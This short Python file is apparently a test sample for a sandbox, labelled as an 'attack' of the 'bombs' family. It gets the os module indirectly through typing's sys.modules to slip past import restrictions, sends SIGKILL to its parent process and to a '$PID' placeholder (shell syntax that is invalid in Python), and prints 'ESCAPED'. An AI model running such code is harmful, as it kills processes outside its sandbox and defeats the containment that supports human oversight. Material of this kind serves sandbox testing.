# attack: signals whatever it may: its parent, its group, everybody
# family: bombs
# ends: processes
import typing

os = [typing][0].sys.modules["os"]
os.kill(os.getppid(), 9)
os.kill($PID, 9)
print("ESCAPED", "killed a process outside")
